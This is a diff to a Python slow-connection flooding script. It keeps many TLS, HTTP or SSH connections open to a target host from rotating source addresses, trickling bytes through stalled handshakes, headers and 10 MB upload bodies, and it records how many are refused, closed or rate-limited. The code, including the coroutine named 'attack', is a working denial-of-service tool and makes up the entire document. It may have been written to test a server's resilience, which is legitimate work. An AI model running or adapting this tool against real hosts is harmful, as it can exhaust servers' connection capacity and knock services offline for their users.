@@ -4,11 +4,12 @@
 
 Keeps COUNT connections to HOST open, from the given addresses in turn; whoever was closed comes again after a second.
 REPORT is a file of JSON, written anew all the time: {"open": now, "opened": so far, "closed": by the host so far,
-"refused": before or while they connected}. KIND is what they do, a byte every two seconds where they say anything:
+"refused": before or while they connected, "429": answered so}. KIND is what they do, a byte every second or two where
+they say anything:
 
 handshakes  begin a TLS handshake with port 443 and don't end it
 headers     send a request's headers
-bodies      send a request's body, to /upload of the name guest-slow-1, -2, ... below HOST, 200 connections each
+bodies      send a request's body of 10 MB, to /upload
 ssh         connect to port 2222; every other one says its version, the others nothing
 """
 
@@ -26,56 +27,54 @@ ADDRESSES = sys.argv[5:]
 ADDRESS = socket.gethostbyname(HOST)
 # A TLS record of 512 bytes with a ClientHello, of which no more is sent than its start.
 HELLO = bytes.fromhex("1603010200010001fc0303")
-counts: collections.Counter[str] = collections.Counter(open=0, opened=0, closed=0, refused=0)
+counts: collections.Counter[str] = collections.Counter(open=0, opened=0, closed=0, refused=0, **{"429": 0})
 
 
 async def dawdle(writer: asyncio.StreamWriter, start: bytes, piece: bytes) -> None:
-    """Send the start, and then a piece every two seconds."""
+    """Send the start, and then a piece every second (bodies) or two."""
     # Once the host has closed the connection nothing is written, which is no matter here.
     with contextlib.suppress(ConnectionError):
         writer.write(start)
         while piece:
-            await asyncio.sleep(2)
+            await asyncio.sleep(1 if KIND == "bodies" else 2)
             writer.write(piece)
             await writer.drain()
 
 
-async def connect(number: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter, str]:
-    """A connection, and the name that it is for."""
-    name = f"guest-slow-{number // 200 + 1}.{HOST}" if KIND == "bodies" else HOST
+async def connect(number: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+    """A connection."""
     # Whom they talk to does not matter to them.
     context = ssl._create_unverified_context() if KIND in ("headers", "bodies") else None
     source = (ADDRESSES[number % len(ADDRESSES)], 0) if ADDRESSES else None
-    reader, writer = await asyncio.open_connection(
+    return await asyncio.open_connection(
         ADDRESS,
         2222 if KIND == "ssh" else 443,
         local_addr=source,
         ssl=context,
-        server_hostname=name if context else None,
+        server_hostname=HOST if context else None,
         ssl_handshake_timeout=60 if context else None,
     )
-    return reader, writer, name
 
 
 async def attack(number: int) -> None:
     """One connection, until the host ends it."""
     try:
-        reader, writer, name = await connect(number)
+        reader, writer = await connect(number)
     except OSError:
         counts["refused"] += 1
         return
     counts.update(open=1, opened=1)
-    head = f"POST /upload HTTP/1.1\r\nHost: {name}\r\n"
+    head = f"POST /upload HTTP/1.1\r\nHost: {HOST}\r\n"
     start, piece = {
         "handshakes": (HELLO, b"x"),
         "headers": (head.encode(), b"X-Slow: yes\r\n"),
-        "bodies": (f"{head}Content-Length: 1000000\r\n\r\n".encode(), b"x"),
+        "bodies": (f"{head}Content-Length: 10000000\r\n\r\n".encode(), b"x"),
         "ssh": (b"SSH-2.0-slow\r\n" if number % 2 else b"", b""),
     }[KIND]
     sending = asyncio.create_task(dawdle(writer, start, piece))
     try:
-        while await reader.read(10_000):
-            pass
+        while said := await reader.read(10_000):
+            counts["429"] += said.startswith(b"HTTP/1.1 429 ")
     except OSError:
         pass
     finally:
